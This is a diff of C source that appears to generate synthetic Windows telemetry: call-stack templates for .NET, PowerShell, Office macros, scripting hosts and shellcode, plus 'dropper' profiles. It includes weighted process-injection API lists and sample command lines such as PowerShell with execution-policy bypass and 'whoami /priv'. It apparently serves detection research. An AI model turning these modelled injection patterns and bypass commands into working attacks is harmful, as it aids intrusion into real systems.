+                                 {M_SYSTEM_NI, FO30 | FNS, 0, 0},
+                                 {M_MSCORLIB_NI, FO | FR2 | FNS, 0, 0},
+                                 {M_CLR, 0, "CallDescrWorkerInternal", 0x83},
+                                 {M_CLR, FO30, "CallDescrWorkerWithHandler", 0x4e},
+                                 {M_CLR, FO30, "MethodDescCallSite::CallTargetWorker", 0x102},
+                                 {M_CLR, FO30, "RunMain", 0x1ab},
+                                 {M_CLR, FO30, "Assembly::ExecuteMainMethod", 0x114},
+                                 {M_CLR, FO30, "_CorExeMainInternal", 0xb2},
+                                 {M_MSCOREEI, FO, "_CorExeMain", 0xfa},
+                                 {M_MSCOREE, FO30, "_CorExeMain_Exported", 0x75},
+                                 BOTTOM};
+static const fspec F_POWERSHELL[] = {{M_UNBACKED, FR2 | FCS, 0, 0},
+                                     {M_SMA_NI, FR2 | FNS, 0, 0},
+                                     {M_UNBACKED, FO30, 0, 0},
+                                     {M_SYSCORE_NI, FO30 | FNS, 0, 0},
+                                     {M_MSCORLIB_NI, FO30 | FNS, 0, 0},
+                                     {M_SMA_NI, FO30 | FNS, 0, 0},
+                                     {M_CLR, 0, "CallDescrWorkerInternal", 0x83},
+                                     {M_CLR, FO30, "CallDescrWorkerWithHandler", 0x4e},
+                                     {M_CONSOLEHOST_NI, FO30 | FNS, 0, 0},
+                                     {M_CLR, FO30, "ExecuteEXE", 0x3f},
+                                     {M_MSCOREEI, FO30, "CorExeMain", 0x11},
+                                     {M_APP, FO | FNS, 0, 0},
+                                     BOTTOM};
+static const fspec F_PWSH[] = {{M_UNBACKED, FR2 | FCS, 0, 0},
+                               {M_SMA_PS, FR2 | FNS, 0, 0},
+                               {M_SPCL_PS, FO30 | FNS, 0, 0},
+                               {M_CORECLR_PS, 0, "CallDescrWorkerInternal", 0x83},
+                               {M_CORECLR_PS, FO30, "RunMain", 0x16b},
+                               {M_HOSTPOLICY_PS, FO30 | FNS, 0, 0},
+                               {M_HOSTFXR_PS, FO30 | FNS, 0, 0},
+                               {M_APP, FNS, 0, 0},
+                               BOTTOM};
+static const fspec F_DNCORE[] = {{M_UNBACKED, FR2 | FCS, 0, 0},
+                                 {M_SPCL_DN, FO | FNS, 0, 0},
+                                 {M_CORECLR_DN, 0, "CallDescrWorkerInternal", 0x83},
+                                 {M_CORECLR_DN, FO, "MethodDescCallSite::CallTargetWorker", 0x1a0},
+                                 {M_HOSTPOLICY_DN, FO | FNS, 0, 0},
+                                 {M_HOSTFXR_DN, FO30 | FNS, 0, 0},
+                                 {M_APP, FNS, 0, 0},
+                                 BOTTOM};
+static const fspec F_RPC[] = {{M_APP, FNS, 0, 0},
+                              {M_RPCRT4, 0, "Invoke", 0x73},
+                              {M_RPCRT4, FO, "NdrStubCall2", 0x30b},
+                              {M_RPCRT4, FO30, "NdrServerCall2", 0x1a},
+                              {M_RPCRT4, FO30, "DispatchToStubInCNoAvrf", 0x17},
+                              {M_RPCRT4, 0, "RPC_INTERFACE::DispatchToStubWorker", 0x1a6},
+                              {M_RPCRT4, FO30, "LRPC_SCALL::DispatchRequest", 0x174},
+                              {M_RPCRT4, FO30, "LRPC_SCALL::HandleRequest", 0x871},
+                              {M_RPCRT4, FO30, "LRPC_ADDRESS::ProcessIO", 0x939},
+                              {M_RPCRT4, FO30, "LrpcIoComplete", 0x109},
+                              TPBOTTOM};
+static const fspec F_RPC_SVC[] = {{M_SVC, FNS, 0, 0},
+                                  {M_RPCRT4, 0, "Invoke", 0x73},
+                                  {M_RPCRT4, FO30, "NdrStubCall2", 0x30b},
+                                  {M_RPCRT4, FO30, "NdrServerCall2", 0x1a},
+                                  {M_RPCRT4, 0, "RPC_INTERFACE::DispatchToStubWorker", 0x1a6},
+                                  {M_RPCRT4, FO30, "LRPC_SCALL::DispatchRequest", 0x174},
+                                  {M_RPCRT4, FO30, "LRPC_ADDRESS::ProcessIO", 0x939},
+                                  {M_RPCRT4, FO30, "LrpcIoComplete", 0x109},
+                                  TPBOTTOM};
+static const fspec F_COM[] = {{M_SVC, FNS, 0, 0},
+                              {M_RPCRT4, 0, "Invoke", 0x73},
+                              {M_RPCRT4, FO30, "Ndr64StubWorker", 0x7dd},
+                              {M_RPCRT4, FO30, "NdrStubCall3", 0xc6},
+                              {M_COMBASE, 0, "CStdStubBuffer_Invoke", 0x59},
+                              {M_COMBASE, FO30, "DefaultStubInvoke", 0x18d},
+                              {M_COMBASE, FO30, "ServerCall::ContextInvoke", 0x43f},
+                              {M_COMBASE, FO, "ComInvokeWithLockAndIPID", 0xa5f},
+                              {M_COMBASE, FO30, "ThreadInvoke", 0x5d},
+                              {M_RPCRT4, 0, "DispatchToStubInCNoAvrf", 0x17},
+                              {M_RPCRT4, FO30, "LRPC_SCALL::DispatchRequest", 0x174},
+                              TPBOTTOM};
+static const fspec F_WMI[] = {{M_CIMWIN32, FR2 | FNS, 0, 0},
+                              {M_FRAMEDYNOS, 0, "Provider::ExecMethod", 0x4a},
+                              {M_FRAMEDYNOS, FO, "CWbemProviderGlue::ExecMethodAsync", 0x1f2},
+                              {M_WMIPRVSD, FO30 | FNS, 0, 0},
+                              {M_APP, FO30 | FNS, 0, 0},
+                              {M_RPCRT4, 0, "Invoke", 0x73},
+                              {M_COMBASE, FO30, "CStdStubBuffer_Invoke", 0x59},
+                              {M_COMBASE, FO30, "ComInvokeWithLockAndIPID", 0xa5f},
+                              {M_RPCRT4, FO30, "LRPC_SCALL::DispatchRequest", 0x174},
+                              TPBOTTOM};
+static const fspec F_VBA_WORD[] = {{M_VBE7, FR2 | FNS, 0, 0},
+                                   {M_VBE7, FO, "DllFunctionCall", 0x1d7},
+                                   {M_VBE7, FO30 | FNS, 0, 0},
+                                   {M_MSO, FO30 | FNS, 0, 0},
+                                   {M_WWLIB, FR2 | FNS, 0, 0},
+                                   {M_APP, FNS, 0, 0},
+                                   BOTTOM};
+static const fspec F_VBA_XL[] = {{M_VBE7, FR3 | FNS, 0, 0},
+                                 {M_VBE7, FO, "rtcShell", 0xa9},
+                                 {M_MSO, FO | FNS, 0, 0},
+                                 {M_APP, FR2 | FNS, 0, 0},
+                                 BOTTOM};
+static const fspec F_VBSCRIPT[] = {{M_WSHOM, FO | FNS, 0, 0},
+                                   {M_OLEAUT32, FO, "DispCallFunc", 0x16f},
+                                   {M_VBSCRIPT, 0, "CScriptRuntime::RunNoEH", 0x1e3},
+                                   {M_VBSCRIPT, FO, "CScriptRuntime::Run", 0xc4},
+                                   {M_VBSCRIPT, 0, "CScriptEntryPoint::Call", 0x11e},
+                                   {M_VBSCRIPT, FO30, "CSession::Execute", 0x2a4},
+                                   {M_VBSCRIPT, FO30, "COleScript::ExecutePendingScripts", 0x14a},
+                                   {M_APP, FR2 | FNS, 0, 0},
+                                   BOTTOM};
 static const fspec F_JSCRIPT9[] = {
-    {M_WSHOM, FO30 | FNS, 0, 0}, {M_OLEAUT32, FO30, "DispCallFunc", 0x16f},
-    {M_JSCRIPT9, 0, "Js::JavascriptFunction::CallFunction<1>", 0x93}, {M_UNBACKED, FO30, 0, 0},
-    {M_JSCRIPT9, FR2, "Js::InterpreterStackFrame::Process", 0x1e2f},
-    {M_JSCRIPT9, FO, "Js::InterpreterStackFrame::InterpreterThunk<1>", 0x237}, {M_MSHTML, FO | FR2 | FNS, 0, 0},
-    {M_APP, FNS, 0, 0}, BOTTOM};
-static const fspec F_SCROBJ[] = {
+    {M_WSHOM, FO30 | FNS, 0, 0},
+    {M_OLEAUT32, FO30, "DispCallFunc", 0x16f},
     {M_JSCRIPT9, 0, "Js::JavascriptFunction::CallFunction<1>", 0x93},
-    {M_JSCRIPT9, FR2, "Js::InterpreterStackFrame::Process", 0x1e2f}, {M_SCROBJ, FR2 | FNS, 0, 0},
-    {M_APP, FNS, 0, 0}, BOTTOM};
-static const fspec F_PYTHON[] = {
-    {M_UCRTBASE, FO30, "_wsopen_s", 0x72}, {M_PYTHON311, FO | FNS, 0, 0},
-    {M_PYTHON311, 0, "_PyEval_EvalFrameDefault", 0x4e1}, {M_PYTHON311, FR2 | FNS, 0, 0},
-    {M_PYTHON311, FO, "PyEval_EvalCode", 0x97}, {M_PYTHON311, FO30, "Py_RunMain", 0x12b},
-    {M_APP, FNS, 0, 0}, BOTTOM};
-static const fspec F_PYCTYPES[] = {
-    {M_LIBFFI, FNS, 0, 0}, {M_CTYPES, FR2 | FNS, 0, 0}, {M_PYTHON311, 0, "_PyObject_MakeTpCall", 0x7f},
-    {M_PYTHON311, FR2, "_PyEval_EvalFrameDefault", 0x4e1}, {M_PYTHON311, FO30, "PyEval_EvalCode", 0x97},
-    {M_APP, FNS, 0, 0}, BOTTOM};
+    {M_UNBACKED, FO30, 0, 0},
+    {M_JSCRIPT9, FR2, "Js::InterpreterStackFrame::Process", 0x1e2f},
+    {M_JSCRIPT9, FO, "Js::InterpreterStackFrame::InterpreterThunk<1>", 0x237},
+    {M_MSHTML, FO | FR2 | FNS, 0, 0},
+    {M_APP, FNS, 0, 0},
+    BOTTOM};
+static const fspec F_SCROBJ[] = {{M_JSCRIPT9, 0, "Js::JavascriptFunction::CallFunction<1>", 0x93},
+                                 {M_JSCRIPT9, FR2, "Js::InterpreterStackFrame::Process", 0x1e2f},
+                                 {M_SCROBJ, FR2 | FNS, 0, 0},
+                                 {M_APP, FNS, 0, 0},
+                                 BOTTOM};
+static const fspec F_PYTHON[] = {{M_UCRTBASE, FO30, "_wsopen_s", 0x72},
+                                 {M_PYTHON311, FO | FNS, 0, 0},
+                                 {M_PYTHON311, 0, "_PyEval_EvalFrameDefault", 0x4e1},
+                                 {M_PYTHON311, FR2 | FNS, 0, 0},
+                                 {M_PYTHON311, FO, "PyEval_EvalCode", 0x97},
+                                 {M_PYTHON311, FO30, "Py_RunMain", 0x12b},
+                                 {M_APP, FNS, 0, 0},
+                                 BOTTOM};
+static const fspec F_PYCTYPES[] = {{M_LIBFFI, FNS, 0, 0},
+                                   {M_CTYPES, FR2 | FNS, 0, 0},
+                                   {M_PYTHON311, 0, "_PyObject_MakeTpCall", 0x7f},
+                                   {M_PYTHON311, FR2, "_PyEval_EvalFrameDefault", 0x4e1},
+                                   {M_PYTHON311, FO30, "PyEval_EvalCode", 0x97},
+                                   {M_APP, FNS, 0, 0},
+                                   BOTTOM};
 static const fspec F_JAVA[] = {
-    {M_JAVADLL, FO30 | FNS, 0, 0}, {M_JNET, FO30 | FNS, 0, 0}, {M_UNBACKED, FR2 | FCS, 0, 0},
-    {M_JVM, FR2 | FNS, 0, 0}, {M_UCRTBASE, FO30, "thread_start<unsigned int (__cdecl*)(void *),1>", 0x42}, BOTTOM};
+    {M_JAVADLL, FO30 | FNS, 0, 0},
+    {M_JNET, FO30 | FNS, 0, 0},
+    {M_UNBACKED, FR2 | FCS, 0, 0},
+    {M_JVM, FR2 | FNS, 0, 0},
+    {M_UCRTBASE, FO30, "thread_start<unsigned int (__cdecl*)(void *),1>", 0x42},
+    BOTTOM};
 static const fspec F_V8[] = {
     {M_APP, FR2 | FNS, 0, 0}, {M_UNBACKED, FR2 | FCS, 0, 0}, {M_APP, FR2 | FNS, 0, 0}, BOTTOM};
 static const fspec F_SHELLCODE[] = {{M_UNBACKED, FR3 | FCS, 0, 0}, BOTTOM};
-static const fspec F_SHELLCODE_HOSTED[] = {{M_UNBACKED, FR2 | FCS, 0, 0}, {M_APP, FR2 | FNS, 0, 0}, BOTTOM};
+static const fspec F_SHELLCODE_HOSTED[] = {
+    {M_UNBACKED, FR2 | FCS, 0, 0}, {M_APP, FR2 | FNS, 0, 0}, BOTTOM};
 static const fspec F_SHELLCODE_UNK[] = {{M_UNBACKED, FR2 | FCS, 0, 0}, {M_UNKNOWN, FR2, 0, 0}};
 static const fspec F_DIRECT_APP[] = {{M_APP, FNS, 0, 0}, {M_APP, FR2 | FNS, 0, 0}, BOTTOM};
 static const fspec F_DIRECT_UNB[] = {
@@ -526,11 +724,37 @@ static const fspec F_DIRECT_UNB[] = {
 static const fspec F_INDIRECT[] = {{M_UNBACKED, FR2 | FCS, 0, 0}, {M_APP, FO | FNS, 0, 0}, BOTTOM};
 
 enum {
-    T_NATIVE, T_GUI, T_DOTNET, T_POWERSHELL, T_PWSH, T_DNCORE, T_RPC, T_RPC_SVC, T_COM, T_WMI, T_VBA_WORD,
-    T_VBA_XL, T_VBSCRIPT, T_JSCRIPT9, T_SCROBJ, T_PYTHON, T_PYCTYPES, T_JAVA, T_V8, T_SHELLCODE,
-    T_SHELLCODE_HOSTED, T_SHELLCODE_UNK, T_DIRECT_APP, T_DIRECT_UNB, T_INDIRECT, T_COUNT
+    T_NATIVE,
+    T_GUI,
+    T_DOTNET,
+    T_POWERSHELL,
+    T_PWSH,
+    T_DNCORE,
+    T_RPC,
+    T_RPC_SVC,
+    T_COM,
+    T_WMI,
+    T_VBA_WORD,
+    T_VBA_XL,
+    T_VBSCRIPT,
+    T_JSCRIPT9,
+    T_SCROBJ,
+    T_PYTHON,
+    T_PYCTYPES,
+    T_JAVA,
+    T_V8,
+    T_SHELLCODE,
+    T_SHELLCODE_HOSTED,
+    T_SHELLCODE_UNK,
+    T_DIRECT_APP,
+    T_DIRECT_UNB,
+    T_INDIRECT,
+    T_COUNT
 };
-#define TM(nm, top, pv, pp, rwx, arr) {nm, top, pv, pp, rwx, arr, (uint8_t)NELEM(arr)}
+#define TM(nm, top, pv, pp, rwx, arr)                                                              \
+    {                                                                                              \
+        nm, top, pv, pp, rwx, arr, (uint8_t)NELEM(arr)                                             \
+    }
 static const tmpl TMPLS[T_COUNT] = {
     [T_NATIVE] = TM("native", TOP_FULL, PV_NONE, 0, 0, F_NATIVE),
     [T_GUI] = TM("native-gui", TOP_FULL, PV_NONE, 0, 0, F_GUI),
@@ -567,7 +791,8 @@ static const fspec TOP_PROC[] = {{M_NTDLL, 0, "NtCreateUserProcess", 0x14},
 static const fspec TOP_FCREATE[] = {{M_NTDLL, 0, "NtCreateFile", 0x14},
                                     {M_KERNELBASE, 0, "CreateFileInternal", 0x2f6},
                                     {M_KERNELBASE, FO30, "CreateFileW", 0x66}};
-static const fspec TOP_FWRITE[] = {{M_NTDLL, 0, "NtWriteFile", 0x14}, {M_KERNELBASE, 0, "WriteFile", 0x7b}};
+static const fspec TOP_FWRITE[] = {{M_NTDLL, 0, "NtWriteFile", 0x14},
+                                   {M_KERNELBASE, 0, "WriteFile", 0x7b}};
 static const fspec TOP_FDELETE[] = {{M_NTDLL, 0, "NtSetInformationFile", 0x14},
                                     {M_KERNELBASE, 0, "DeleteFileW", 0x23a}};
 static const fspec TOP_FRENAME[] = {{M_NTDLL, 0, "NtSetInformationFile", 0x14},
@@ -596,32 +821,78 @@ static const fspec TOP_NET[] = {{M_NTDLL, 0, "NtDeviceIoControlFile", 0x14},
                                 {M_MSWSOCK, FNS, 0, 0},
                                 {M_WS2_32, 0, "connect", 0x4e}};
 
-enum { A_VPROT, A_VALLOC, A_VALLOCEX, A_WPM, A_MAPVIEW, A_SETCTX, A_APC, A_RPM, A_VPROTEX, A_COUNT };
-static const char *const API_NAMES[A_COUNT] = {"VirtualProtect", "VirtualAlloc", "VirtualAllocEx",
-                                               "WriteProcessMemory", "MapViewOfFile2", "SetThreadContext",
-                                               "QueueUserAPC", "ReadProcessMemory", "VirtualProtectEx"};
+enum {
+    A_VPROT,
+    A_VALLOC,
+    A_VALLOCEX,
+    A_WPM,
+    A_MAPVIEW,
+    A_SETCTX,
+    A_APC,
+    A_RPM,
+    A_VPROTEX,
+    A_COUNT
+};
+static const char *const API_NAMES[A_COUNT] = {
+    "VirtualProtect",   "VirtualAlloc", "VirtualAllocEx",    "WriteProcessMemory", "MapViewOfFile2",
+    "SetThreadContext", "QueueUserAPC", "ReadProcessMemory", "VirtualProtectEx"};
 static const uint8_t API_W[A_COUNT] = {30, 20, 6, 10, 8, 4, 4, 10, 8};
 static const fspec TOP_API[A_COUNT][3] = {
-    [A_VPROT] = {{M_NTDLL, 0, "NtProtectVirtualMemory", 0x14}, {M_KERNELBASE, 0, "VirtualProtect", 0x3b}, {0}},
-    [A_VALLOC] = {{M_NTDLL, 0, "NtAllocateVirtualMemory", 0x14}, {M_KERNELBASE, 0, "VirtualAlloc", 0x48}, {0}},
+    [A_VPROT] = {{M_NTDLL, 0, "NtProtectVirtualMemory", 0x14},
+                 {M_KERNELBASE, 0, "VirtualProtect", 0x3b},
+                 {0}},
+    [A_VALLOC] = {{M_NTDLL, 0, "NtAllocateVirtualMemory", 0x14},
+                  {M_KERNELBASE, 0, "VirtualAlloc", 0x48},
+                  {0}},
     [A_VALLOCEX] = {{M_NTDLL, 0, "NtAllocateVirtualMemory", 0x14},
                     {M_KERNELBASE, FO30, "VirtualAllocExNuma", 0x62},
                     {M_KERNELBASE, 0, "VirtualAllocEx", 0x16}},
-    [A_WPM] = {{M_NTDLL, 0, "NtWriteVirtualMemory", 0x14}, {M_KERNELBASE, 0, "WriteProcessMemory", 0x52}, {0}},
-    [A_MAPVIEW] = {{M_NTDLL, 0, "NtMapViewOfSectionEx", 0x14}, {M_KERNELBASE, 0, "MapViewOfFile3", 0x9e}, {0}},
-    [A_SETCTX] = {{M_NTDLL, 0, "NtSetContextThread", 0x14}, {M_KERNELBASE, 0, "SetThreadContext", 0x12}, {0}},
-    [A_APC] = {{M_NTDLL, 0, "NtQueueApcThread", 0x14}, {M_KERNELBASE, 0, "QueueUserAPC", 0x8a}, {0}},
-    [A_RPM] = {{M_NTDLL, 0, "NtReadVirtualMemory", 0x14}, {M_KERNELBASE, 0, "ReadProcessMemory", 0x2c}, {0}},
-    [A_VPROTEX] = {{M_NTDLL, 0, "NtProtectVirtualMemory", 0x14}, {M_KERNELBASE, 0, "VirtualProtectEx", 0x4b}, {0}},
+    [A_WPM] = {{M_NTDLL, 0, "NtWriteVirtualMemory", 0x14},
+               {M_KERNELBASE, 0, "WriteProcessMemory", 0x52},
+               {0}},
+    [A_MAPVIEW] = {{M_NTDLL, 0, "NtMapViewOfSectionEx", 0x14},
+                   {M_KERNELBASE, 0, "MapViewOfFile3", 0x9e},
+                   {0}},
+    [A_SETCTX] = {{M_NTDLL, 0, "NtSetContextThread", 0x14},
+                  {M_KERNELBASE, 0, "SetThreadContext", 0x12},
+                  {0}},
+    [A_APC] = {{M_NTDLL, 0, "NtQueueApcThread", 0x14},
+               {M_KERNELBASE, 0, "QueueUserAPC", 0x8a},
+               {0}},
+    [A_RPM] = {{M_NTDLL, 0, "NtReadVirtualMemory", 0x14},
+               {M_KERNELBASE, 0, "ReadProcessMemory", 0x2c},
+               {0}},
+    [A_VPROTEX] = {{M_NTDLL, 0, "NtProtectVirtualMemory", 0x14},
+                   {M_KERNELBASE, 0, "VirtualProtectEx", 0x4b},
+                   {0}},
 };
 
 /* ------------------------------------------------------ process catalogue */
 
 enum { UK_USER, UK_SYSTEM, UK_LSVC, UK_NSVC, UK_SVCMIX, UK_ANY };
 enum {
-    PR_NATIVE, PR_GUI, PR_EXPLORER, PR_PS, PR_PWSH, PR_DOTNET, PR_DNCORE, PR_SVCHOST, PR_RPCSRV, PR_WMI,
-    PR_DLLHOST, PR_WORD, PR_EXCEL, PR_WSCRIPT, PR_MSHTA, PR_PYTHON, PR_JAVA, PR_V8, PR_RUNDLL, PR_REGSVR,
-    PR_DROPPER, PR_COUNT
+    PR_NATIVE,
+    PR_GUI,
+    PR_EXPLORER,
+    PR_PS,
+    PR_PWSH,
+    PR_DOTNET,
+    PR_DNCORE,
+    PR_SVCHOST,
+    PR_RPCSRV,
+    PR_WMI,
+    PR_DLLHOST,
+    PR_WORD,
+    PR_EXCEL,
+    PR_WSCRIPT,
+    PR_MSHTA,
+    PR_PYTHON,
+    PR_JAVA,
+    PR_V8,
+    PR_RUNDLL,
+    PR_REGSVR,
+    PR_DROPPER,
+    PR_COUNT
 };
 typedef struct {
     uint8_t t[6], w[6];
@@ -647,7 +918,8 @@ static const sprofile PROFILES[PR_COUNT] = {
     [PR_V8] = {{T_V8, T_NATIVE}, {75, 25}},
     [PR_RUNDLL] = {{T_NATIVE, T_SHELLCODE_HOSTED, T_SHELLCODE, T_SHELLCODE_UNK}, {50, 25, 15, 10}},
     [PR_REGSVR] = {{T_NATIVE, T_SCROBJ, T_SHELLCODE}, {60, 25, 15}},
-    [PR_DROPPER] = {{T_SHELLCODE, T_DIRECT_APP, T_DIRECT_UNB, T_INDIRECT, T_NATIVE, T_SHELLCODE_UNK},
+    [PR_DROPPER] = {{T_SHELLCODE, T_DIRECT_APP, T_DIRECT_UNB, T_INDIRECT, T_NATIVE,
+                     T_SHELLCODE_UNK},
                     {25, 20, 20, 15, 10, 10}},
 };
 
@@ -659,273 +931,713 @@ typedef struct {
     const char *cmds[8];
 } pdef;
 
-#define PS_EXE "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
-#define EDGE_EXE "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
+#define PS_EXE     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+#define EDGE_EXE   "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
 #define CHROME_EXE "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
-#define OFFICE "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
-#define PY_EXE "C:\\Program Files\\Python311\\python.exe"
-#define JDK "C:\\Program Files\\Java\\jdk-17\\bin\\"
+#define OFFICE     "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
+#define PY_EXE     "C:\\Program Files\\Python311\\python.exe"
+#define JDK        "C:\\Program Files\\Java\\jdk-17\\bin\\"
 
 static const pdef PDEFS[] = {
-    {"svchost.exe", "C:\\Windows\\System32\\svchost.exe", SG_MSWIN, 14, UK_SVCMIX, PR_SVCHOST, "services.exe",
-     {"C:\\Windows\\system32\\svchost.exe -k {K} -p -s {S}", "C:\\Windows\\system32\\svchost.exe -k {K} -p",
-      "C:\\Windows\\System32\\svchost.exe -k {K}"}},
-    {"services.exe", "C:\\Windows\\System32\\services.exe", SG_MSWIN, 1, UK_SYSTEM, PR_RPCSRV, "wininit.exe",
+    {"svchost.exe",
+     "C:\\Windows\\System32\\svchost.exe",
+     SG_MSWIN,
+     14,
+     UK_SVCMIX,
+     PR_SVCHOST,
+     "services.exe",
+     {"C:\\Windows\\system32\\svchost.exe -k {K} -p -s {S}",
+      "C:\\Windows\\system32\\svchost.exe -k {K} -p", "C:\\Windows\\System32\\svchost.exe -k {K}"}},
+    {"services.exe",
+     "C:\\Windows\\System32\\services.exe",
+     SG_MSWIN,
+     1,
+     UK_SYSTEM,
+     PR_RPCSRV,
+     "wininit.exe",
      {"C:\\Windows\\system32\\services.exe"}},
-    {"lsass.exe", "C:\\Windows\\System32\\lsass.exe", SG_MSWIN, 1, UK_SYSTEM, PR_RPCSRV, "wininit.exe",
+    {"lsass.exe",
+     "C:\\Windows\\System32\\lsass.exe",
+     SG_MSWIN,
+     1,
+     UK_SYSTEM,
+     PR_RPCSRV,
+     "wininit.exe",
      {"C:\\Windows\\system32\\lsass.exe"}},
-    {"spoolsv.exe", "C:\\Windows\\System32\\spoolsv.exe", SG_MSWIN, 1, UK_SYSTEM, PR_RPCSRV, "services.exe",
+    {"spoolsv.exe",
+     "C:\\Windows\\System32\\spoolsv.exe",
+     SG_MSWIN,
+     1,
+     UK_SYSTEM,
+     PR_RPCSRV,
+     "services.exe",
      {"C:\\Windows\\System32\\spoolsv.exe"}},
-    {"wininit.exe", "C:\\Windows\\System32\\wininit.exe", SG_MSWIN, 0, UK_SYSTEM, PR_NATIVE, "smss.exe",
+    {"wininit.exe",
+     "C:\\Windows\\System32\\wininit.exe",
+     SG_MSWIN,
+     0,
+     UK_SYSTEM,
+     PR_NATIVE,
+     "smss.exe",
      {"wininit.exe"}},
-    {"smss.exe", "C:\\Windows\\System32\\smss.exe", SG_MSWIN, 0, UK_SYSTEM, PR_NATIVE, "smss.exe",
+    {"smss.exe",
+     "C:\\Windows\\System32\\smss.exe",
+     SG_MSWIN,
+     0,
+     UK_SYSTEM,
+     PR_NATIVE,
+     "smss.exe",
      {"\\SystemRoot\\System32\\smss.exe 000000b0 00000080"}},
-    {"userinit.exe", "C:\\Windows\\System32\\userinit.exe", SG_MSWIN, 0, UK_USER, PR_NATIVE, "winlogon.exe",
+    {"userinit.exe",
+     "C:\\Windows\\System32\\userinit.exe",
+     SG_MSWIN,
+     0,
+     UK_USER,
+     PR_NATIVE,
+     "winlogon.exe",
      {"C:\\Windows\\system32\\userinit.exe"}},
-    {"winlogon.exe", "C:\\Windows\\System32\\winlogon.exe", SG_MSWIN, 1, UK_SYSTEM, PR_NATIVE, "smss.exe",
+    {"winlogon.exe",
+     "C:\\Windows\\System32\\winlogon.exe",
+     SG_MSWIN,
+     1,
+     UK_SYSTEM,
+     PR_NATIVE,
+     "smss.exe",
      {"winlogon.exe"}},
-    {"csrss.exe", "C:\\Windows\\System32\\csrss.exe", SG_MSWIN, 1, UK_SYSTEM, PR_NATIVE, "smss.exe",
-     {"%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On "
+    {"csrss.exe",
+     "C:\\Windows\\System32\\csrss.exe",
+     SG_MSWIN,
+     1,
+     UK_SYSTEM,
+     PR_NATIVE,
+     "smss.exe",
+     {"%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 "
+      "Windows=On "
       "SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 "
       "ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16"}},
-    {"explorer.exe", "C:\\Windows\\explorer.exe", SG_MSWIN, 3, UK_USER, PR_EXPLORER, "userinit.exe",
+    {"explorer.exe",
+     "C:\\Windows\\explorer.exe",
+     SG_MSWIN,
+     3,
+     UK_USER,
+     PR_EXPLORER,
+     "userinit.exe",
      {"C:\\Windows\\Explorer.EXE"}},
-    {"RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe", SG_MSWIN, 2, UK_USER, PR_NATIVE,
-     "svchost.exe", {"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"}},
-    {"taskhostw.exe", "C:\\Windows\\System32\\taskhostw.exe", SG_MSWIN, 2, UK_USER, PR_NATIVE, "svchost.exe",
-     {"taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", "taskhostw.exe Install $(Arg0)",
-      "taskhostw.exe {X}"}},
-    {"conhost.exe", "C:\\Windows\\System32\\conhost.exe", SG_MSWIN, 3, UK_USER, PR_NATIVE,
+    {"RuntimeBroker.exe",
+     "C:\\Windows\\System32\\RuntimeBroker.exe",
+     SG_MSWIN,
+     2,
+     UK_USER,
+     PR_NATIVE,
+     "svchost.exe",
+     {"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"}},
+    {"taskhostw.exe",
+     "C:\\Windows\\System32\\taskhostw.exe",
+     SG_MSWIN,
+     2,
+     UK_USER,
+     PR_NATIVE,
+     "svchost.exe",
+     {"taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
+      "taskhostw.exe Install $(Arg0)", "taskhostw.exe {X}"}},
+    {"conhost.exe",
+     "C:\\Windows\\System32\\conhost.exe",
+     SG_MSWIN,
+     3,
+     UK_USER,
+     PR_NATIVE,
      "cmd.exe,powershell.exe,python.exe",
      {"\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"}},
-    {"cmd.exe", "C:\\Windows\\System32\\cmd.exe", SG_MSWIN, 4, UK_USER, PR_NATIVE,
+    {"cmd.exe",
+     "C:\\Windows\\System32\\cmd.exe",
+     SG_MSWIN,
+     4,
+     UK_USER,
+     PR_NATIVE,
      "explorer.exe,powershell.exe,svchost.exe,WINWORD.EXE,python.exe,java.exe,Code.exe",
      {"\"C:\\Windows\\system32\\cmd.exe\" /c \"C:\\ProgramData\\{V}\\scripts\\{T}.bat\" {N}",
-      "C:\\Windows\\system32\\cmd.exe /c ipconfig /all > C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.txt",
+      "C:\\Windows\\system32\\cmd.exe /c ipconfig /all > "
+      "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.txt",
       "cmd.exe /c whoami /priv",
-      "C:\\Windows\\system32\\cmd.exe /d /s /c \"npm run build --prefix C:\\Users\\{U}\\source\\repos\\{P}\"",
-      "\"C:\\Windows\\system32\\cmd.exe\" /c net use Z: \\\\fs01.corp.example\\share /persistent:no",
-      "C:\\Windows\\system32\\cmd.exe /c echo {X} | findstr /i \"error\" >> C:\\Windows\\Temp\\{F}.log",
+      "C:\\Windows\\system32\\cmd.exe /d /s /c \"npm run build --prefix "
+      "C:\\Users\\{U}\\source\\repos\\{P}\"",
+      "\"C:\\Windows\\system32\\cmd.exe\" /c net use Z: \\\\fs01.corp.example\\share "
+      "/persistent:no",
+      "C:\\Windows\\system32\\cmd.exe /c echo {X} | findstr /i \"error\" >> "
+      "C:\\Windows\\Temp\\{F}.log",
       "\"C:\\Windows\\system32\\cmd.exe\""}},
-    {"powershell.exe", PS_EXE, SG_MSWIN, 4, UK_ANY, PR_PS,
+    {"powershell.exe",
+     PS_EXE,
+     SG_MSWIN,
+     4,
+     UK_ANY,
+     PR_PS,
      "explorer.exe,cmd.exe,svchost.exe,WmiPrvSE.exe,WINWORD.EXE,mshta.exe",
-     {"\"" PS_EXE "\" -NoProfile -ExecutionPolicy Bypass -File \"C:\\ProgramData\\{V}\\scripts\\{T}.ps1\"",
+     {"\"" PS_EXE
+      "\" -NoProfile -ExecutionPolicy Bypass -File \"C:\\ProgramData\\{V}\\scripts\\{T}.ps1\"",
